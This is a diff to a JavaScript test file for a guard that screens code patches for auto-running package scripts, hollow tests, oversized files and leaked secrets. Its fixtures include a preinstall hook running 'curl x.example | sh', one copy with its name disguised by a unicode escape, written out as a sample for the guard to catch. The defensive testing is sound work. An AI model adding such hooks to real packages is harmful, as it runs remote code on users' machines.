@@ -2,10 +2,12 @@
 import { describe, expect, it } from "@jest/globals";
 import { NO_RULES, type Rules } from "../../../src/domain/rules.ts";
 import { guard, MAX_ADDED_LINES, MAX_FILE_BYTES, MAX_FILES } from "../../../worker/run/guard.ts";
+import { PROTECTED_FILES, SCRIPT_FILES } from "../../../worker/toolchains/paths.ts";
 import { aChange, aPatch } from "../../support/builders.ts";
 
+const known = { protected: PROTECTED_FILES, scriptFiles: SCRIPT_FILES };
 const judged = (change: Parameters<typeof aChange>[0], rules: Partial<Rules> = {}) =>
-  guard({ patch: aPatch(aChange(change)), rules: { ...NO_RULES, ...rules }, secrets: [] });
+  guard({ patch: aPatch(aChange(change)), rules: { ...NO_RULES, ...rules }, secrets: [], ...known });
 
 describe("the guard", () => {
   it("lets an ordinary change through", () => {
@@ -36,17 +38,25 @@ describe("the guard", () => {
   });
 
   it.each([
-    ["runs a script on every install", ['  "preinstall": "curl x.example | sh",'], ["preinstall"]],
-    ["runs one under a name in disguise", ['  "pre\\u0069nstall": "curl x.example | sh",'], ["preinstall"]],
-    ["makes a test of nothing", ['  "test": "node --test || true"'], ["test"]],
+    ["runs a script on every install", ['  "preinstall": "curl x.example | sh",'], ["preinstall"], []],
+    [
+      "runs one under a name in disguise",
+      ['  "pre\\u0069nstall": "curl x.example | sh",'],
+      ["preinstall"],
+      [],
+    ],
+    ["makes a test of nothing", ['  "test": "node --test || true"'], [], ["test"]],
     [
       "does both",
       ['  "prepare": "x",', '  "test": "true",', '  "pretest": "x"'],
-      ["prepare", "test", "pretest"],
+      ["prepare"],
+      ["test", "pretest"],
     ],
-  ])("protects a package that %s until the rules name it", (_name, added, scripts) => {
+  ])("protects a package that %s until the rules name it", (_name, added, byItself, forTests) => {
     const change = { path: "package.json", added };
-    expect(judged(change)).toEqual([{ kind: "script", path: "package.json", scripts }]);
+    expect(judged(change)).toEqual([
+      { kind: "script", path: "package.json", tool: "npm", byItself, forTests },
+    ]);
     expect(judged(change, { allow: ["package.json"] })).toEqual([]);
     expect(judged({ ...change, added: ['  "lint": "biome",', '  "dependencies": {'] })).toEqual([]);
   });
@@ -72,6 +82,7 @@ describe("the guard", () => {
         patch: aPatch(...Array.from({ length: n }, (_, i) => aChange({ path: `f${i}` }))),
         rules: NO_RULES,
         secrets: [],
+        ...known,
       });
     const lines = (n: number) => Array.from({ length: n }, () => "x");
     expect(files(MAX_FILES)).toEqual([]);
@@ -84,7 +95,7 @@ describe("the guard", () => {
   it("names every file that is too large, the largest first", () => {
     const sized = (path: string, bytes: number) => aChange({ path, bytes });
     const patch = aPatch(sized("a.bin", 2_200_000), sized("ok.bin", 2_000_000), sized("b.bin", 3_145_728));
-    expect(guard({ patch, rules: NO_RULES, secrets: [] })).toEqual([
+    expect(guard({ patch, rules: NO_RULES, secrets: [], ...known })).toEqual([
       { kind: "large-file", path: "b.bin", bytes: 3_145_728, limit: 2_097_152 },
       { kind: "large-file", path: "a.bin", bytes: 2_200_000, limit: 2_097_152 },
     ]);
@@ -95,6 +106,7 @@ describe("the guard", () => {
       patch: aPatch(aChange()),
       rules: NO_RULES,
       secrets: [{ path: "src/clock.js", what: "AWSSecretAccessKey" }],
+      ...known,
     });
     expect(faults).toEqual([{ kind: "secret", path: "src/clock.js", what: "AWSSecretAccessKey" }]);
   });
